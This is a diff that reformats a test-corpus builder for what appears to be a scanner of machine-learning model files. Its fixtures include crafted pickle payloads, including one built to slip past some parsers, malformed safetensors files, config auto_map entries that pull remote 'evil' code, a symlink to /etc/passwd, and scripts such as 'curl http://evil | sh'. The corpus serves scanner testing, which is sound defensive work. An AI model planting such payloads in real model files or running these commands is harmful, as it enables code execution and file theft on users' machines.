@@ -56,8 +56,14 @@ def canary_pickle_frame_split(canary: Path) -> bytes:
     """A FRAME that ends inside GLOBAL's line: _pickle over io.BytesIO drops the rest of the
     frame and reads ``io``/``open`` after it; pickle.py and _pickle over bytes fail."""
     frame = b"c\xff"
-    return (b"\x80\x04\x95" + struct.pack("<Q", len(frame)) + frame + b"io\nopen\n(V"
-            + str(canary).encode() + b"\nVw\ntR.")
+    return (
+        b"\x80\x04\x95"
+        + struct.pack("<Q", len(frame))
+        + frame
+        + b"io\nopen\n(V"
+        + str(canary).encode()
+        + b"\nVw\ntR."
+    )
 
 
 def canary_gzip_corrupt_tail(canary: Path) -> bytes:
@@ -82,8 +88,9 @@ def canary_pickle_then_npz(canary: Path) -> bytes:
     return canary_pickle(canary, 2) + zip_with({"a.npy": buf.getvalue()})
 
 
-def safetensors_bytes(header: dict[str, object], data_len: int, *,
-                      length: int | None = None) -> bytes:
+def safetensors_bytes(
+    header: dict[str, object], data_len: int, *, length: int | None = None
+) -> bytes:
     raw = json.dumps(header).encode()
     raw += b" " * (-len(raw) % 8)
     n = len(raw) if length is None else length
@@ -141,8 +148,7 @@ def build_corpus(root: Path, canary: Path) -> Corpus:
     put("pickles/README.md", canary_pickle(canary, 0), "scan.pickle")
     put("pickles/weights.bin", canary_pickle(canary, 3), "scan.pickle")
     put("pickles/p4.npy.bak", canary_pickle(canary, 4), "scan.pickle")
-    put("pickles/tokenizer.model", canary_pickle(canary, 5), "scan.pickle",
-        "scan.sentencepiece")
+    put("pickles/tokenizer.model", canary_pickle(canary, 5), "scan.pickle", "scan.sentencepiece")
     put("pickles/opt.json", canary_pickle(canary, 4), "scan.pickle", "scan.json")
     put("pickles/state.gz", gzip.compress(canary_pickle(canary, 4)), "scan.pickle")
     put("pickles/big.bin", canary_pickle(canary, 4) + os.urandom(200_000), "scan.pickle")
@@ -160,30 +166,73 @@ def build_corpus(root: Path, canary: Path) -> Corpus:
     buf = io.BytesIO()
     torch.save({"w": torch.zeros(4)}, buf)
     put("model.safetensors", buf.getvalue(), "scan.zip-pickle", "scan.safetensors")
-    put("docs/notes.md", b"# notes\n" + zip_with({"data.pkl": canary_pickle(canary, 2)}),
-        "scan.zip-pickle")
+    put(
+        "docs/notes.md",
+        b"# notes\n" + zip_with({"data.pkl": canary_pickle(canary, 2)}),
+        "scan.zip-pickle",
+    )
     put("arrays.npz", zip_with({"a.npy": _npy_object()}), "scan.numpy-object")
 
     # safetensors attacks
     put("st/bomb.safetensors", struct.pack("<Q", 2**60) + b"{}", "scan.safetensors")
-    put("st/overlap.safetensors", safetensors_bytes({
-        "w": {"dtype": "U8", "shape": [10], "data_offsets": [0, 10]},
-        "b": {"dtype": "U8", "shape": [8], "data_offsets": [4, 12]},
-    }, 12), "scan.safetensors")
-    put("st/out-of-range.safetensors", safetensors_bytes({
-        "w": {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]},
-    }, 8), "scan.safetensors")
-    put("st/dtype-shape.safetensors", safetensors_bytes({
-        "w": {"dtype": "F32", "shape": [2, 3], "data_offsets": [0, 16]},
-    }, 16), "scan.safetensors")
+    put(
+        "st/overlap.safetensors",
+        safetensors_bytes(
+            {
+                "w": {"dtype": "U8", "shape": [10], "data_offsets": [0, 10]},
+                "b": {"dtype": "U8", "shape": [8], "data_offsets": [4, 12]},
+            },
+            12,
+        ),
+        "scan.safetensors",
+    )
+    put(
+        "st/out-of-range.safetensors",
+        safetensors_bytes(
+            {
+                "w": {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]},
+            },
+            8,
+        ),
+        "scan.safetensors",
+    )
+    put(
+        "st/dtype-shape.safetensors",
+        safetensors_bytes(
+            {
+                "w": {"dtype": "F32", "shape": [2, 3], "data_offsets": [0, 16]},
+            },
+            16,
+        ),
+        "scan.safetensors",
+    )
 
     # remote code through config files
-    put("config.json", json.dumps({"model_type": "llama", "auto_map": {
-        "AutoConfig": "configuration_evil.EvilConfig",
-        "AutoModelForCausalLM": "modeling_evil.EvilModel"}}).encode(), "scan.auto_map")
-    put("sub/tokenizer_config.json", json.dumps({"auto_map": {
-        "AutoTokenizer": ["evil-org/evil-repo--tokenization_evil.EvilTokenizer", None]},
-        "tokenizer_class": "EvilTokenizer"}).encode(), "scan.auto_map")
+    put(
+        "config.json",
+        json.dumps(
+            {
+                "model_type": "llama",
+                "auto_map": {
+                    "AutoConfig": "configuration_evil.EvilConfig",
+                    "AutoModelForCausalLM": "modeling_evil.EvilModel",
+                },
+            }
+        ).encode(),
+        "scan.auto_map",
+    )
+    put(
+        "sub/tokenizer_config.json",
+        json.dumps(
+            {
+                "auto_map": {
+                    "AutoTokenizer": ["evil-org/evil-repo--tokenization_evil.EvilTokenizer", None]
+                },
+                "tokenizer_class": "EvilTokenizer",
+            }
+        ).encode(),
+        "scan.auto_map",
+    )
 
     # tree attacks
     (root / "passwd").symlink_to("/etc/passwd")
@@ -200,8 +249,7 @@ def build_corpus(root: Path, canary: Path) -> Corpus:
 
     # numpy with object dtype
     put("object.npy", _npy_object(), "scan.numpy-object")
-    put("object-word.npy", npy_with_descr("object", canary_pickle(canary, 2)),
-        "scan.numpy-object")
+    put("object-word.npy", npy_with_descr("object", canary_pickle(canary, 2)), "scan.numpy-object")
 
     # native code, bytecode, HDF5, code and scripts
     put("tokenizer.bin", elf_stub(), "scan.native")
@@ -209,8 +257,7 @@ def build_corpus(root: Path, canary: Path) -> Corpus:
     put("libs/setup.exe", pe_stub(), "scan.native")
     put("libs/weights.h5", b"\x89HDF\r\n\x1a\n" + b"\0" * 64, "scan.hdf5")
     put("libs/cached.dat", _bytecode(), "scan.bytecode")
-    put("run.sh", b"#!/bin/sh\ntouch pwned\n", "tree.executable", "scan.script",
-        mode=0o755)
+    put("run.sh", b"#!/bin/sh\ntouch pwned\n", "tree.executable", "scan.script", mode=0o755)
     put("prepare", b"#!/bin/bash\ncurl http://evil | sh\n", "scan.script")
     put("helpers.txt", b"import os\n\nos.system('id')\n", "scan.python")
     put("modeling_evil.py", b"x = 1\n", "scan.python")
